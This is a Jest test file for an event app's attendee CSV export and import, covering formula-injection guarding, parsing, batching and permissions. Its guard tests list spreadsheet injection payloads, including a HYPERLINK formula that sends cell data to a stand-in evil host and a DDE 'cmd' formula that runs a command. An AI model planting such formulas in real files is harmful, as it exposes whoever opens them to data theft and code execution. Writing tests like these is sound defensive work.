import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import fc from 'fast-check';
import { type Database, openDatabase } from '../../src/data/database.js';
import { csvLine } from '../../src/domain/csv/csvLine.js';
import { guardFormula, unguardFormula } from '../../src/domain/csv/formulaGuard.js';
import {
  type AttendeesExport,
  exportAttendees,
} from '../../src/domain/registration/exportAttendees.js';
import {
  type AttendeesImport,
  type ImportedRow,
  importAttendees,
  ROWS_TOGETHER_MAX,
  readPeople,
} from '../../src/domain/registration/importAttendees.js';
import { checkPerson } from '../../src/domain/registration/registration.js';
import { administrator, viewerWith } from '../../src/domain/sharing/viewer.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { findBrokenPromises, givenAttendeeRow, givenEventRow } from '../support/givenRows.js';

// Thousands of rows take a while on a busy machine.
jest.setTimeout(60_000);

setFlagsFromString('--expose-gc');
const collectGarbage: () => void = runInNewContext('gc');

let database: TestDatabase;
let db: Database;

beforeAll(async () => {
  database = await createTestDatabase();
  db = openDatabase(database.url);
});

afterAll(async () => {
  await db.$disconnect();
  await database.drop();
});

const anybody = viewerWith(undefined, false);
const now = new Date('2026-11-21T12:00:00Z');

describe('a cell that a spreadsheet would run as a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t1',
    '\r1',
    '\n1',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\u0001=1',
    '＝1',
    '＋1',
    '－1',
    '＠1',
    '\u3000＝1',
    '−1',
    "'=1",
    "''\t1",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
  ])('gets an apostrophe in front: %j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
    expect(unguardFormula(`'${text}`)).toBe(text);
  });

  it.each([
    ['Ada;=1', "Ada;'=1"],
    ['Ada\t+1', "Ada\t'+1"],
    ['Ada\n=1\r\n @b', "Ada\n'=1\r\n '@b"],
    ["Ada;'=1", "Ada;''=1"],
    ['Ada; -', "Ada; '-"],
    [' \t=1', "' \t'=1"],
  ])('gets one too where another separator would begin a cell: %j', (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
    expect(unguardFormula(guarded)).toBe(text);
  });

  it.each([
    'Ada Lovelace',
    "O'Brien",
    "'Ada'",
    'Jean-Luc',
    'a=b',
    'ada+tag@example.org',
    '',
    ' ',
    '1',
  ])('is none, and stays as it is: %j', (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  });

  it('is never left, and always restored, whatever the text', () => {
    fc.assert(
      fc.property(tricky(0), (text) => {
        const guarded = guardFormula(text);
        expect(guarded).not.toMatch(/^([\t\r\n]|[\p{Z}\p{C}]*[=+\-@＝＋－＠])/u);
        expect(guarded).not.toMatch(/[;\t\r\n][\p{Z}\p{C}]*[=+\-@＝＋－＠]/u);
        expect(unguardFormula(guarded)).toBe(text);
      }),
      { numRuns: 3_000 },
    );
  });
});

describe('a line of CSV', () => {
  it('ends in CR LF, and quotes what needs it', () => {
    expect(csvLine(['Ada', 'a,b', 'say "hi"', 'two\r\nlines', ' blank ', 'a;b', null, ''])).toBe(
      'Ada,"a,b","say ""hi""","two\r\nlines"," blank ","a;b",,\r\n',
    );
  });

  it('is read back as it was written, wherever the file is cut into chunks', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(tricky(1), tricky(1)), { maxLength: 8 }),
        fc.integer({ min: 1, max: 40 }),
        async (people, chunkBytes) => {
          const file = csvLine(['name', 'email']) + people.map((cells) => csvLine(cells)).join('');
          const { rows } = await read(cut(Buffer.from(file), chunkBytes));
          expect(
            rows.map((row) => row.kind === 'row' && [row.fields.name, row.fields.email]),
          ).toEqual(people);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('a file of people', () => {
  it.each([
    ['commas', 'name,email\nAda,ada@example.org\n'],
    ['semicolons', 'name;email\r\nAda;ada@example.org\r\n'],
    ['old line ends', 'name,email\rAda,ada@example.org\r'],
    ['a byte order mark', '\ufeffname,email\nAda,ada@example.org\n'],
    ['other columns, in another order', 'x;Email; NAME ;y\n1;ada@example.org;Ada;2\n'],
    ['quotes everywhere', '"name","email"\n"Ada","ada@example.org"'],
    ['empty lines', 'name,email\n\n\nAda,ada@example.org\n\n'],
  ])('may have %s', async (_what, file) => {
    const { rows } = await read([Buffer.from(file)]);
    expect(rows).toMatchObject([{ fields: { name: 'Ada', email: 'ada@example.org' } }]);
  });

  it('says which columns are ignored', async () => {
    const { ignoredColumns } = await read([Buffer.from('id,name,Note,email\n')]);
    expect(ignoredColumns).toEqual(['id', 'Note']);
  });

  it.each([
    ['nothing', ''],
    ['no header', 'Ada,ada@example.org\n'],
    ['no email', 'name,mail\n'],
    ['two emails', 'name,email,EMAIL\n'],
  ])('is refused with %s, without a word of what stands in it', async (_what, file) => {
    expect(await readPeople(stream([Buffer.from(file)]))).toEqual({
      kind: 'unreadable',
      line: 1,
      message: 'The first line must name the columns name and email, each once, like name,email',
    });
  });

  it('is refused when it is not UTF-8', async () => {
    expect(
      await readPeople(stream([Buffer.from('name,email\nZoé,z@example.org', 'latin1')])),
    ).toEqual({
      kind: 'unreadable',
      line: 1,
      message: expect.stringContaining('UTF-8'),
    });
  });

  it('numbers rows by the line on which they begin, whatever the line ends', async () => {
    const file = 'name,email\r\n"A\r\nB",a@b.c\n\n"A\nB\rC",a@b.c\r\nA,a@b.c\rA,a@b.c';
    const { rows } = await read(cut(Buffer.from(file), 3));
    expect(rows.map(({ line }) => line)).toEqual([2, 5, 8, 9]);
  });

  it('tells of a row with too few or too many cells, and reads on', async () => {
    const { rows } = await read([Buffer.from('name,email\nAda\nAda,a@b.c,\nBob,b@b.c\n')]);
    expect(rows).toMatchObject([
      { kind: 'malformedRow', line: 2, message: expect.stringContaining('has 1') },
      { kind: 'malformedRow', line: 3, message: expect.stringContaining('has 3') },
      { kind: 'row', line: 4 },
    ]);
  });

  it.each([
    ['a stray quote', 'name,email\nAda,a@b.c\n"B"ob,b@b.c\nCyd,c@b.c\n', 'quotes'],
    ['a quote never closed', 'name,email\nAda,a@b.c\n"Bob,b@b.c\nCyd,c@b.c\n', 'quotes'],
    ['a row without an end', `name,email\nAda,a@b.c\n"${'B'.repeat(200_000)}`, 'too long'],
  ])('is read up to %s', async (_what, file, message) => {
    const { rows } = await read([Buffer.from(file)]);
    expect(rows).toMatchObject([
      { kind: 'row', line: 2 },
      { kind: 'malformedRow', line: 3, message: expect.stringContaining(message) },
    ]);
  });
});

describe('exportAttendees', () => {
  it('writes every column, times in the zone asked for, in the order of arrival', async () => {
    const { event } = await givenEventRow(db);
    const at = (time: string) => new Date(`2026-11-21T${time}Z`);
    await givenAttendeeRow(db, event, {
      name: 'Zoé',
      email: 'z@example.org',
      registeredAt: at('08:00:00'),
      promotedAt: at('09:00:00.250'),
      checkedInAt: at('10:00:00'),
      checkedInBy: '=door',
    });
    await givenAttendeeRow(db, event, {
      name: 'Ada, Countess',
      email: '+a@example.org',
      status: 'CANCELLED',
      registeredAt: at('08:00:00'),
      cancelledAt: at('11:00:00'),
    });

    expect(
      await exported({ eventId: event.id, timezone: 'Europe/Paris', encodeId: () => '#' }),
    ).toBe(
      'name,email,status,registeredAt,promotedAt,cancelledAt,checkedInAt,checkedInBy,id\r\n' +
        'Zoé,z@example.org,CONFIRMED,2026-11-21T09:00:00+01:00,2026-11-21T10:00:00.250+01:00,,2026-11-21T11:00:00+01:00,"\'=door",#\r\n' +
        '"Ada, Countess","\'+a@example.org",CANCELLED,2026-11-21T09:00:00+01:00,,2026-11-21T12:00:00+01:00,,,#\r\n',
    );
    expect(await exported({ eventId: event.id, statuses: ['CANCELLED'] })).not.toContain('Zoé');
  });

  it('is for those who may read the attendees', async () => {
    const { event: open } = await givenEventRow(db);
    const { event: hidden } = await givenEventRow(db, { visibility: 'PRIVATE' });
    const ask = async ({ id }: { id: string }, viewer = anybody) => {
      const asked = { eventId: id, timezone: 'UTC', encodeId: String };
      return (await exportAttendees({ db, viewer }, asked)).kind;
    };
    expect(await ask(open)).toBe('permissionDenied');
    expect(await ask(hidden)).toBe('eventNotFound');
    expect(await ask({ id: '00000000-0000-0000-0000-000000000000' })).toBe('eventNotFound');
    expect(await ask(hidden, administrator)).toBe('attendees');
  });

  it('shows everyone who stays once, while others come and go', async () => {
    const { event } = await givenEventRow(db, { capacity: 5_000 });
    await givenMany(event.id, 2_500);
    const outcome = await startExport({ eventId: event.id });
    let csv = '';
    for await (const lines of outcome.csv) {
      csv += lines;
      await db.$executeRaw`
        DELETE FROM "Attendee" WHERE "eventId" = ${event.id}::uuid AND "arrival" IN (
          SELECT "arrival" FROM "Attendee" WHERE "eventId" = ${event.id}::uuid AND "name" LIKE '%7'
          ORDER BY "arrival" LIMIT 90)`;
    }
    const names = csv
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[0] ?? '');
    expect(names.filter((name) => !name.endsWith('7'))).toEqual(
      Array.from({ length: 2_500 }, (_, i) => `Person ${i + 1}`).filter(
        (name) => !name.endsWith('7'),
      ),
    );
  });

  it('writes 100,000 people in little memory', async () => {
    const { event } = await givenEventRow(db, { capacity: 100_000 });
    await givenMany(event.id, 100_000, 'x'.repeat(150));
    await db.$executeRaw`ANALYZE "Attendee"`;
    const { csv } = await startExport({ eventId: event.id });
    let lines = 0;
    let heapMax = 0;
    const heapBefore = heapUsed();
    for await (const text of csv) {
      lines += text.split('\r\n').length - 1;
      if (lines % 20_000 === 1) heapMax = Math.max(heapMax, heapUsed());
    }
    expect(lines).toBe(100_001);
    expect(heapMax - heapBefore).toBeLessThan(10_000_000);
  });
});

describe('importAttendees', () => {
  it('takes back exactly the names and emails that exportAttendees wrote', async () => {
    const people = fc
      .sample(tricky(1), 1_500)
      .filter((name) => checkPerson({ name, email: 'a@b.c' }).length === 0 && storable(name))
      .map((name, i) => ({ name, email: `${"=+-'"[i % 4]}p${i}@Example.org` }));
    expect(people.length).toBeGreaterThan(500);
    const { event: from } = await givenEventRow(db, { capacity: 2_000 });
    const { event: to } = await givenEventRow(db, { capacity: 2_000 });
    await runImport(
      from.id,
      csvLine(['name', 'email']) + people.map((p) => csvLine([p.name, p.email])).join(''),
    );

    const first = await exported({ eventId: from.id });
    const { outcome } = await runImport(to.id, first);

    expect(outcome).toEqual({ kind: 'imported' });
    expect(await peopleOf(to.id)).toEqual(people);
    expect(await peopleOf(from.id)).toEqual(people);
  });

  it('registers in the order of the file, and says of each other row why it was not', async () => {
    const { event } = await givenEventRow(db, { capacity: 2 });
    await givenAttendeeRow(db, event, { email: 'ada@example.org' });

    const { outcome, rows } = await runImport(
      event.id,
      'name,email\nAda,ADA@example.org\nBob,bob@example.org\nBob,BOB@example.org\n,nowhere\nCyd\nDan,d@example.org\n',
    );

    expect(outcome).toEqual({ kind: 'imported' });
    expect(rows.map(({ line, outcome: { kind } }) => [line, kind])).toEqual([
      [2, 'alreadyRegistered'],
      [3, 'registered'],
      [4, 'alreadyRegistered'],
      [5, 'invalidInput'],
      [6, 'malformedRow'],
      [7, 'eventFull'],
    ]);
    expect(await emailsOf(event.id)).toEqual(['ada@example.org', 'bob@example.org']);
  });

  it('decides a long file in batches, as if it were one', async () => {
    const { event } = await givenEventRow(db, { capacity: 1_500 });
    const file = `name,email\n${manyLines(2_500)}`;

    const { rows } = await runImport(event.id, file, { joinWaitlist: true });

    expect(rows).toHaveLength(2_500);
    expect(await db.event.findUnique({ where: { id: event.id } })).toMatchObject({
      confirmedCount: 1_500,
      waitlistLength: 1_000,
    });
    expect((await emailsOf(event.id)).slice(998, 1_002)).toEqual(
      [999, 1_000, 1_001, 1_002].map((i) => `p${i}@example.org`),
    );
    const again = await runImport(event.id, file, { joinWaitlist: true });
    expect(new Set(again.rows.map(({ outcome: { kind } }) => kind))).toEqual(
      new Set(['alreadyRegistered']),
    );
    expect(await findBrokenPromises(db)).toEqual([]);
  });

  it.each([
    ['a refused row', 'Ada,ADA@example.org\n'],
    ['a malformed row', 'Ada\n'],
    ['broken quotes', '"A"da,x@example.org\n'],
  ])('writes nothing for %s when it shall be all or nothing', async (_what, bad) => {
    const { event } = await givenEventRow(db, { capacity: 2_000 });
    const file = `name,email\nAda,ada@example.org\n${manyLines(1_200)}${bad}`;

    const { outcome, rows } = await runImport(event.id, file, { allOrNothing: true });

    expect(outcome).toEqual({ kind: 'importRefused' });
    const refused = rows.filter((row) => row.outcome.kind !== 'registered');
    expect(refused.map(({ line }) => line)).toEqual([1_203]);
    expect(await emailsOf(event.id)).toEqual([]);
  });

  it('writes everything when nothing is refused and it shall be all or nothing', async () => {
    const { event } = await givenEventRow(db, { capacity: 10_000 });
    const file = `name,email\n${manyLines(ROWS_TOGETHER_MAX)}`;
    expect((await runImport(event.id, file, { allOrNothing: true })).outcome).toEqual({
      kind: 'imported',
    });
    expect(await db.attendee.count({ where: { eventId: event.id } })).toBe(ROWS_TOGETHER_MAX);
  });

  it.each([{ allOrNothing: true }, { validateOnly: true }])(
    'refuses more rows than can be decided together: %j',
    async (wanted) => {
      const { event } = await givenEventRow(db, { capacity: 1_000_000 });
      const file = `name,email\n${manyLines(ROWS_TOGETHER_MAX + 1)}`;
      const { outcome, rows } = await runImport(event.id, file, wanted);
      expect(outcome).toEqual({ kind: 'tooManyRows', rowsMax: 10_000 });
      expect(rows).toEqual([]);
      expect(await emailsOf(event.id)).toEqual([]);
    },
  );

  it('only says what would happen when it shall only validate', async () => {
    const { event } = await givenEventRow(db, { capacity: 1_100 });
    const file = `name,email\n${manyLines(1_101)}X,P1@example.org\n`;

    const { outcome, rows } = await runImport(event.id, file, { validateOnly: true });

    expect(outcome).toEqual({ kind: 'imported' });
    expect(rows.slice(-3).map((row) => row.outcome.kind)).toEqual([
      'registered',
      'eventFull',
      'alreadyRegistered',
    ]);
    expect(await emailsOf(event.id)).toEqual([]);
  });

  it('is for those who manage the attendees', async () => {
    const { event } = await givenEventRow(db);
    const file = 'name,email\nAda,ada@example.org\n';
    const refused = await runImport(event.id, file, {}, anybody);
    expect(refused.outcome).toEqual({ kind: 'permissionDenied', requiredRole: 'EDITOR' });
    const absent = await runImport('00000000-0000-0000-0000-000000000000', file);
    expect(absent.outcome).toEqual({ kind: 'eventNotFound' });
    expect(await emailsOf(event.id)).toEqual([]);
  });

  it('looks at the clock for each batch: nobody comes in after the start', async () => {
    const { event } = await givenEventRow(db, {
      startsAt: new Date(now.getTime() + 1_000),
      capacity: 5_000,
    });
    const times = [0, 999, 1_000].map((ms) => new Date(now.getTime() + ms));
    const { rows } = await runImport(
      event.id,
      `name,email\n${manyLines(2_500)}`,
      {},
      administrator,
      () => times.shift() as Date,
    );
    expect(rows.filter(({ outcome: { kind } }) => kind === 'registered')).toHaveLength(2_000);
    expect(rows.at(-1)?.outcome.kind).toBe('eventStarted');
  });
});

/** Texts of few characters that matter, and of any others. */
function tricky(minLength: number): fc.Arbitrary<string> {
  const unit = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...`=+-@＝'",;\t\r\n \u00a0\ufeffA9`) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  );
  return fc.string({ unit, minLength, maxLength: 12 });
}

/** The database's own idea of a name that is not empty is stricter about nothing but blanks. */
function storable(name: string): boolean {
  return name.replaceAll(' ', '') !== '';
}

function manyLines(count: number): string {
  return Array.from({ length: count }, (_, i) => `Person ${i + 1},p${i + 1}@example.org\n`).join(
    '',
  );
}

async function* stream(chunks: readonly Uint8Array[]): AsyncGenerator<Uint8Array> {
  yield* chunks;
}

function cut(bytes: Buffer, size: number): Buffer[] {
  const count = Math.ceil(bytes.length / size);
  return Array.from({ length: count }, (_, i) => bytes.subarray(i * size, (i + 1) * size));
}

async function read(chunks: readonly Uint8Array[]) {
  const people = await readPeople(stream(chunks));
  if (people.kind !== 'rows') throw new Error(people.message);
  const rows = [];
  for await (const row of people.rows) rows.push(row);
  return { ...people, rows };
}

async function startExport(asked: Partial<AttendeesExport> & { eventId: string }) {
  const outcome = await exportAttendees(
    { db, viewer: administrator },
    { timezone: 'UTC', encodeId: String, ...asked },
  );
  if (outcome.kind !== 'attendees') throw new Error(outcome.kind);
  return outcome;
}

async function exported(asked: Partial<AttendeesExport> & { eventId: string }): Promise<string> {
  let csv = '';
  for await (const lines of (await startExport(asked)).csv) csv += lines;
  return csv;
}

async function runImport(
  eventId: string,
  file: string,
  wanted: Partial<AttendeesImport> = {},
  viewer = administrator,
  clock = () => now,
) {
  const people = await readPeople(stream([Buffer.from(file)]));
  if (people.kind !== 'rows') throw new Error(people.message);
  const rows: ImportedRow[] = [];
  const outcome = await importAttendees(
    { db, viewer, clock },
    people.rows,
    { eventId, joinWaitlist: false, allOrNothing: false, validateOnly: false, ...wanted },
    (decided) => rows.push(...decided),
  );
  return { outcome, rows };
}

function peopleOf(eventId: string) {
  return db.attendee.findMany({
    where: { eventId },
    orderBy: { arrival: 'asc' },
    select: { name: true, email: true },
  });
}

async function emailsOf(eventId: string): Promise<string[]> {
  return (await peopleOf(eventId)).map(({ email }) => email);
}

async function givenMany(eventId: string, count: number, surname = ''): Promise<void> {
  await db.$transaction(
    async (tx) => {
      await tx.$executeRaw`SET LOCAL statement_timeout = 0`;
      await tx.$executeRaw`
      INSERT INTO "Attendee" ("id", "eventId", "name", "email", "status", "registeredAt", "secretHash")
      SELECT gen_random_uuid(), ${eventId}::uuid, 'Person ' || ${surname} || i, 'p' || i || '@example.org',
        'CONFIRMED', now(), '\\x00'
      FROM generate_series(1, ${count}::int) AS i ORDER BY i`;
    },
    { timeout: 60_000 },
  );
}

/** What is left after a collection. */
function heapUsed(): number {
  collectGarbage();
  return process.memoryUsage().heapUsed;
}
